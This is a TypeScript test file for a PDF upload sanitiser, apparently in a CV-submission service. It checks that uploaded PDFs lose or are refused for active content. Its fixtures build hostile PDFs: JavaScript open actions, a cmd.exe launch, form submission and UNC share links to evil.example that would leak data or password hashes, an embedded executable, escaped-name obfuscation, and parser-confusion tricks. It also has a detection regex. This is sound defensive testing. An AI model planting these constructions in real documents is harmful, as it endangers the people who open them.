import { inflateSync } from 'node:zlib'
import { AFRelationship, PDFDocument } from '@cantoo/pdf-lib'
import { getDocument, VerbosityLevel } from 'pdfjs-dist/legacy/build/pdf.mjs'
import PDFKit from 'pdfkit'
import { describe, expect, test } from 'vitest'
import { namesOf } from '#contract/base/facts.ts'
import type { FileKind } from '#contract/facts/file-kinds.ts'
import { fileKinds } from '#contract/facts/file-kinds.ts'
import { pdfOf } from '#tests/support/pdf.ts'
import { fileSender } from '#tests/support/send-file.ts'
import { textOfPdf } from '#tests/support/text-of-pdf.ts'

const sender = await fileSender()
const words = 'Aishath Ibrahim, HTML/JavaScript'

interface Parts {
  /** Entries of the catalogue, the page and its one annotation. */
  catalog?: string
  page?: string
  annotation?: string
  /** Entries of the stream with the page's words. */
  stream?: string
  /** Objects from number 7 on. */
  more?: string[]
}

/** A PDF of a page with words and a link, into which a case puts what it is about. */
function aPage({ catalog = '', page = '', annotation = '', stream = '', more = [] }: Parts = {}): Buffer {
  const content = `BT /F1 12 Tf 72 720 Td (${words}) Tj ET`
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [6 0 R]
      /Resources << /Font << /F1 5 0 R >> >> ${page} >>`,
    `<< /Length ${content.length} ${stream} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] ${annotation} >>`,
    ...more,
  ]
  return pdfOf(
    objects.map((object) => [object]),
    '/Root 1 0 R',
  )
}

const js = '/S /JavaScript /JS (app.alert\\(1\\))'
const launch = '/S /Launch /F (cmd.exe)'

/** The same, with the objects packed, as newer programs write them. */
async function packed(parts: Parts): Promise<Buffer> {
  const document = await PDFDocument.load(aPage(parts), { updateMetadata: false })
  return Buffer.from(await document.save({ useObjectStreams: true }))
}

/** Locked against printing alone: it opens without a password. */
function withRights(): Promise<Buffer> {
  const document = new PDFKit({ ownerPassword: 'secret', pdfVersion: '1.7', compress: false })
  document.text(words)
  const root = (document as unknown as { _root: { data: Record<string, unknown> } })._root
  root.data.OpenAction = document.ref({ S: 'JavaScript', JS: new String('app.alert(1)') })
  ;(root.data.OpenAction as { end(): void }).end()
  document.end()
  return collected(document)
}

async function collected(document: InstanceType<typeof PDFKit>): Promise<Buffer> {
  const chunks: Buffer[] = []
  for await (const chunk of document) chunks.push(chunk as Buffer)
  return Buffer.concat(chunks)
}

async function withAttachment(): Promise<Buffer> {
  const document = await PDFDocument.load(aPage(), { updateMetadata: false })
  const file = { mimeType: 'application/x-msdownload', afRelationship: AFRelationship.Data }
  await document.attach(Buffer.from('MZ program'), 'cv.exe', file)
  return Buffer.from(await document.save())
}

/** An action that a later version of the file no longer names is still in it. */
function changedLater(): Buffer {
  const before = aPage({ catalog: `/OpenAction << ${js} >>` })
  const table = before.lastIndexOf('xref\n0')
  const at = before.length
  const object = '1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n'
  const update = `${object}xref\n1 1\n${String(at).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 7 /Root 1 0 R /Prev ${table} >>\nstartxref\n${at + object.length}\n%%EOF\n`
  return Buffer.concat([before, Buffer.from(update)])
}

const hostile: Record<string, () => Buffer | Promise<Buffer>> = {
  'a script on opening': () => aPage({ catalog: `/OpenAction << ${js} >>` }),
  'a script on opening, elsewhere in the file': () =>
    aPage({ catalog: '/OpenAction 7 0 R', more: [`<< ${js} >>`] }),
  'a script under an escaped name': () =>
    aPage({ catalog: '/Open#41ction << /S /J#61v#61Script /#4a#53 (app.alert\\(1\\)) >>' }),
  'packed scripts': () => packed({ catalog: `/OpenAction << ${js} >>`, page: `/AA << /O << ${js} >> >>` }),
  'a script with a name': () =>
    aPage({ catalog: '/Names << /JavaScript 7 0 R >>', more: [`<< /Names [(a) << ${js} >>] >>`] }),
  'a script after a harmless action': () =>
    aPage({ annotation: `/A << /S /URI /URI (https://example.mv) /Next [<< ${js} >>] >>` }),
  'a script of a page': () => aPage({ page: `/AA << /O << ${js} >> >>` }),
  'a script of a step of a presentation': () =>
    aPage({ page: `/PresSteps << /Type /NavNode /NA << ${js} >> >>` }),
  'a script of a field': () =>
    aPage({
      catalog: '/AcroForm << /Fields [6 0 R] >>',
      annotation: `/Subtype /Widget /FT /Tx /T (name) /AA << /K << ${js} >> >>`,
    }),
  'a program that is started': () => aPage({ annotation: `/A << ${launch} >>` }),
  'a program that is started on opening': () => aPage({ catalog: `/OpenAction << ${launch} >>` }),
  'a form that sends itself': () =>
    aPage({ annotation: '/A << /S /SubmitForm /F (https://evil.example/take) >>' }),
  'data of another file': () => aPage({ annotation: '/A << /S /ImportData /F (data.fdf) >>' }),
  'a file on a server, whose look-up sends a password': () =>
    aPage({ annotation: '/A << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit] >>' }),
  'a link to a script': () => aPage({ annotation: '/A << /S /URI /URI (javascript:alert\\(1\\)) >>' }),
  'a link to a file': () => aPage({ annotation: '/A << /S /URI /URI (file:///C:/Windows/a.exe) >>' }),
  'a link to a share': () => aPage({ annotation: '/A << /S /URI /URI (\\\\\\\\evil.example\\\\share) >>' }),
  'a command of the viewer': () => aPage({ annotation: '/A << /S /Named /N /SaveAs >>' }),
  'a form of another kind, with scripts of its own': () =>
    aPage({ catalog: '/AcroForm << /Fields [] /XFA 7 0 R >>', more: ['(<xdp:xdp/>)'] }),
  'a film': () => aPage({ annotation: '/Subtype /RichMedia /RichMediaContent << /Assets << >> >>' }),
  'content that stands in another file': () => aPage({ stream: '/F (\\\\\\\\evil.example\\\\page)' }),
  'a file inside': withAttachment,
  'a script in a file against printing': withRights,
  'a script in an earlier version': changedLater,
}

/** Numbers that other programs read, and this parser does not. */
const badNumbers = ['--5', '1-2-3']

/** Objects from number 7 on, packed in a stream that is found by its place in the file. The last one opens the file. */
function packedApart(objects: string[], type: string): Buffer {
  const before = aPage({ catalog: `/OpenAction ${6 + objects.length} 0 R` })
  const offsets = objects.map((_, index) => objects.slice(0, index).join(' ').length + Math.min(index, 1))
  const list = objects.map((_, index) => `${7 + index} ${offsets[index]}`).join(' ')
  const body = `${list} ${objects.join(' ')}`
  const stream = 7 + objects.length
  const place = before.length
  const packed = `${stream} 0 obj\n<< ${type} /N ${objects.length} /First ${list.length + 1} /Length ${body.length} >>\nstream\n${body}\nendstream\nendobj\n`
  const entries = objects.map((_, index) => [2, stream, index])
  const rows = [...entries, [1, place, 0], [1, place + packed.length, 0]].map(
    ([kind = 0, at = 0, index = 0]) => Buffer.from([kind, at >> 16, (at >> 8) & 0xff, at & 0xff, index]),
  )
  const table = Buffer.concat(rows)
  const head = `${stream + 1} 0 obj\n<< /Type /XRef /Size ${stream + 2} /Index [7 ${rows.length}] /W [1 3 1] /Root 1 0 R /Prev ${before.lastIndexOf('xref\n0')} /Length ${table.length} >>\nstream\n`
  const tail = `\nendstream\nendobj\nstartxref\n${place + packed.length}\n%%EOF\n`
  return Buffer.concat([before, Buffer.from(packed + head), table, Buffer.from(tail)])
}

/** Everything in a file, unpacked where it is packed. */
function everything(content: Buffer): string {
  const text = content.toString('latin1')
  const streams = [...text.matchAll(/stream\r?\n/g)].map(({ index, 0: { length } }) => {
    try {
      return inflateSync(content.subarray(index + length), { finishFlush: 2 }).toString('latin1')
    } catch {
      return ''
    }
  })
  return [text, ...streams].join('\n')
}

async function actionsOf(content: Buffer) {
  const task = getDocument({ data: new Uint8Array(content), verbosity: VerbosityLevel.ERRORS })
  const file = await task.promise
  const found = [await file.getJSActions(), await file.getOpenAction(), await file.getAttachments()]
  await task.destroy()
  return found.filter((one) => one !== null)
}

const activeWords =
  /\/(JavaScript|JS|Launch|SubmitForm|ImportData|GoToR|XFA|RichMedia|EmbeddedFiles?|AA|SaveAs)\b|javascript:|file:\/\/|evil|MZ program/

describe('a PDF loses, and shows the same without it,', () => {
  for (const [what, made] of Object.entries(hostile))
    test(what, async () => {
      const { kept } = await sender.send('cv', await made(), 'CV.pdf')
      expect(await textOfPdf(kept)).toEqual([words])
      expect(await actionsOf(kept)).toEqual([])
      expect(everything(kept).replaceAll(words, '')).not.toMatch(activeWords)
    })

  const takingPdf = namesOf(fileKinds).filter((kind) => fileKinds[kind].formats.some((one) => one === 'pdf'))
  test.each(takingPdf)('a script, as %s', async (kind: FileKind) => {
    const { kept } = await sender.send(kind, aPage({ catalog: `/OpenAction << ${js} >>` }), 'File.pdf')
    expect(await actionsOf(kept)).toEqual([])
  })
})

describe('a PDF that needs an object which only other programs can read', () => {
  const toShare = '/S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit]'
  const made: Record<string, (bad: string) => Buffer> = {
    'a script on opening': (bad) => aPage({ catalog: '/OpenAction 7 0 R', more: [`<< ${js} /X ${bad} >>`] }),
    'a file on a server': (bad) => aPage({ annotation: `/X ${bad} /A << ${toShare} >>` }),
    'a file behind a word that ends objects': (bad) =>
      aPage({ annotation: `/X ${bad} /Contents (endobj) /A << ${toShare} >>` }),
    'a packed script': (bad) => packedApart([`<< ${js} /X ${bad} >>`], '/Type /ObjStm'),
    'a script packed behind a bad number': (bad) => packedApart([bad, `<< ${js} >>`], '/Type /ObjStm'),
    'no action, but words of the page': (bad) => aPage({ stream: `/X ${bad}` }),
  }
  const cases = Object.entries(made).flatMap(([what, make]) => badNumbers.map((bad) => ({ what, bad, make })))
  test.each(cases)('is refused: $what with $bad', async ({ make, bad }) => {
    const refusal = await sender.send('cv', make(bad), 'CV.pdf').catch((error: Error) => error)
    expect(String(refusal)).toMatch(/holds a program, or opens other files|is damaged or incomplete/)
  })

  test('is written without it, where it is packed in a stream without a type', async () => {
    const { kept } = await sender.send('cv', packedApart([`<< ${js} >>`], ''), 'CV.pdf')
    expect(await textOfPdf(kept)).toEqual([words])
    expect(await actionsOf(kept)).toEqual([])
    expect(everything(kept).replaceAll(words, '')).not.toMatch(activeWords)
  })
})

test('a PDF with a list longer than the arguments of a call is taken', async () => {
  const content = aPage({ catalog: '/Numbers 7 0 R', more: [`[${'0 '.repeat(200_000)}]`] })
  expect((await sender.send('cv', content, 'CV.pdf')).kept.equals(content)).toBe(true)
})

describe('a PDF stays byte for byte as it was sent', () => {
  const honest: Record<string, () => Buffer | Promise<Buffer>> = {
    'with words that read like a script': () => aPage(),
    'that opens at a page': () => aPage({ catalog: '/OpenAction [3 0 R /Fit]' }),
    'that opens at a page by an action': () =>
      aPage({ catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>' }),
    'with fields that are filled in': () =>
      packed({
        catalog: '/AcroForm << /Fields [6 0 R] /NeedAppearances true >>',
        annotation: '/Subtype /Widget /FT /Tx /T (name) /V (Aishath)',
      }),
    'with structure for screen readers': () =>
      packed({
        catalog: '/MarkInfo << /Marked true >> /StructTreeRoot 7 0 R',
        more: ['<< /Type /StructTreeRoot /K << /S /P /A << /O /Layout /Placement /Block >> >> >>'],
      }),
    'with a signature': () =>
      packed({
        catalog: '/AcroForm << /Fields [6 0 R] /SigFlags 3 >>',
        annotation:
          '/Subtype /Widget /FT /Sig /T (sig) /V << /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 10 20 30] /Contents <00> >>',
      }),
    'that turns its page by a button': () => packed({ annotation: '/A << /S /Named /N /NextPage >>' }),
  }
  for (const link of ['https://example.mv', 'mailto:a@example.mv', 'tel:+9607771234', 'www.example.mv/cv'])
    honest[`with the link ${link}`] = () => packed({ annotation: `/A << /S /URI /URI (${link}) >>` })
  for (const [what, made] of Object.entries(honest))
    test(what, async () => {
      const content = await made()
      expect((await sender.send('cv', content, 'CV.pdf')).kept.equals(content)).toBe(true)
    })
})

test('a PDF that is the cover of other files is refused in words', async () => {
  const cover = aPage({ catalog: '/Collection << /View /T >>' })
  const refusal = await sender.send('cv', cover, 'CV.pdf').catch((error: Error) => error)
  expect(String(refusal)).toContain(
    'This PDF is a folder of several files. Please print it into one new PDF, then upload that',
  )
})
